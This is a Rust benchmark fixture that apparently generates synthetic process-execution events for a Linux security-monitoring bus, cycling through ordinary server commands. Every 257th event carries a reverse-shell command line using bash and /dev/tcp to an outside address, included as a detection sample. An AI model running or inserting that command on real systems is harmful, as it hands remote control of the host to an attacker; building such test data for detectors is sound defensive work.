//! Events as a busy Linux server has them: what every bench measures with.

use daemoneye_bus::event::{Batch, Event, Field, Kind, MAX_ROWS};

/// Programs, with the arguments they are run with and the parent that runs them.
const ORDINARY: &[(&str, &str, &str)] = &[
    ("/usr/bin/dash", "sh -c run-parts --report /etc/cron.hourly", "/usr/sbin/cron"),
    ("/usr/bin/ls", "ls -l --color=auto /var/log/nginx", "/usr/bin/bash"),
    ("/usr/lib/postgresql/16/bin/postgres", "postgres: checkpointer", "/usr/bin/pg_ctl"),
    ("/usr/bin/git", "git fetch --quiet --prune origin", "/usr/bin/make"),
    (
        "/usr/bin/python3.12",
        "python3 -m gunicorn app:server --workers 8",
        "/usr/lib/systemd/systemd",
    ),
    (
        "/usr/sbin/logrotate",
        "logrotate /etc/logrotate.conf --state /var/lib/logrotate/status",
        "/usr/sbin/cron",
    ),
    ("/usr/bin/curl", "curl -fsS --retry 3 http://127.0.0.1:8080/healthz", "/usr/bin/dash"),
    ("/usr/bin/ssh", "sshd: deploy@pts/3", "/usr/sbin/sshd"),
];

/// One event; every 257th opens `/dev/tcp`.
pub fn event(number: usize) -> Event {
    let (path, command_line, parent) = ORDINARY[number % ORDINARY.len()];
    let attack = number % 257 == 256;
    let (path, command_line) = if attack {
        ("/usr/bin/bash", "bash -c exec 3<>/dev/tcp/192.0.2.7/443; cat <&3 | sh".to_owned())
    } else {
        (path, format!("{command_line} --run {number}"))
    };
    let number = i64::try_from(number).expect("a small number");
    let pid = 1_000 + number % 30_000;
    Event::new(Kind::Exec, 1_790_000_000_000_000 + number * 1_000)
        .with(Field::Sequence, number + 1)
        .with(Field::Origin, "exec")
        .with(Field::ProcessKey, format!("0123456789abcdef:{pid}:{}", number * 10_000))
        .with(Field::Pid, pid)
        .with(Field::ParentPid, 1 + number % 500)
        .with(Field::ParentKey, format!("0123456789abcdef:{}:1000", 1 + number % 500))
        .with(Field::StartTime, 1_790_000_000_000_000 + number * 1_000)
        .with(Field::Name, path.rsplit('/').next().expect("a path has a name"))
        .with(Field::ExecutablePath, path)
        .with(Field::CommandLine, command_line)
        .with(Field::WorkingDirectory, "/srv/app")
        .with(Field::UserId, 1000 + number % 3)
        .with(Field::EffectiveUserId, 1000 + number % 3)
        .with(Field::UserName, "deploy")
        .with(Field::GroupId, 1000)
        .with(Field::SessionId, 1 + number % 50)
        .with(Field::ParentName, parent.rsplit('/').next().expect("a path has a name"))
        .with(Field::ParentPath, parent)
        .with(Field::ParentCommandLine, format!("{parent} -f"))
        .with(Field::ParentUserName, "root")
        .with(Field::ExecutableSha256, format!("{:064x}", number % 8))
        .with(Field::ExecutableHashState, "ok")
        .with(Field::ExecutableState, "on_disk")
        .with(Field::MemoryBytes, 4_000_000 + number)
}

/// A batch of so many events, from this number on.
///
/// # Panics
/// If there are none, or too many for a batch.
pub fn batch(first: usize, rows: usize) -> Batch {
    assert!((1..=MAX_ROWS).contains(&rows), "{rows} rows");
    let events: Vec<Event> = (first..first + rows).map(event).collect();
    Batch::from_events(&events).expect("at least one event")
}
